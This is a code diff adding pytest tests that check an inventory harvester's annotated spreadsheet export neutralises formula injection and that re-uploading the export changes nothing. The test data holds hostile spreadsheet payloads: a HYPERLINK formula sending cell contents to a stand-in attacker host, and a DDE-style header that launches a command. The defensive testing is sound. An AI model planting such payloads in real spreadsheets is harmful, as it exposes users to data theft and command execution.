@@ -92,3 +92,49 @@ def test_inventory_without_mapping_is_refused(make_source) -> None:
     with pytest.raises(InvalidInput) as info:
         make_source("nomap", kind="inventory", url=str(DAYTON))
     assert "mapping" in info.value.errors
+
+
+def test_annotated_copy_never_turns_inventory_text_into_formulas(tmp_path) -> None:
+    from openpyxl import load_workbook
+
+    from harvesters.inventory import read_table, write_annotated
+
+    hostile = [
+        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+        "+1+1",
+        "-2+3",
+        "@SUM(1,1)",
+        "\t=1+1",
+        "\r=1+1",
+        "Plain title",
+    ]
+    frame = pd.DataFrame({"name": hostile, "=cmd|' /C calc'!A0": ["x"] * len(hostile)})
+    path = tmp_path / "annotated.xlsx"
+    write_annotated(frame, {0: [{"severity": "error", "field": None, "message": "=bad"}]}, path)
+
+    sheet = load_workbook(path).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    # Excel would evaluate a cell of type "f"; every cell here is stored as text.
+    assert {cell.data_type for cell in cells} == {"s"}
+    # And kept as text when the steward edits them (Excel's leading-apostrophe style).
+    assert [cell.quotePrefix for cell in sheet["A"][1:]] == [True] * 6 + [False]
+    assert sheet["B1"].quotePrefix and sheet["C2"].quotePrefix
+    assert sheet["C2"].value == "=bad"  # the errors column is defused too
+    # The text reads back as it was, so a re-upload sees the same rows (XML turns a carriage
+    # return into a line feed; the harvester strips both from every cell).
+    again = read_table(path.read_bytes(), path.name)
+    assert [v.strip() for v in again["name"]] == [v.strip() for v in hostile]
+    assert list(again.columns) == [*frame.columns, "errors", "severity"]
+
+
+def test_annotated_copy_uploaded_as_is_changes_nothing(make_source, harvest, tmp_path) -> None:
+    sheet = tmp_path / "inventory.csv"
+    pd.read_csv(DAYTON, dtype=str, keep_default_na=False).head(30).to_csv(sheet, index=False)
+    source = make_source("asis", kind="inventory", url=str(sheet), mapping_path=MAPPING)
+    first = harvest(source)
+    assert first.status == "succeeded" and first.added > 0
+    # The steward uploads the annotated copy with its errors and severity columns still in it.
+    second = harvest(source, location=first.annotated_path)
+    assert second.status == "succeeded", second.error
+    assert (second.added, second.updated, second.withdrawn) == (0, 0, 0)
+    assert second.unchanged == first.added
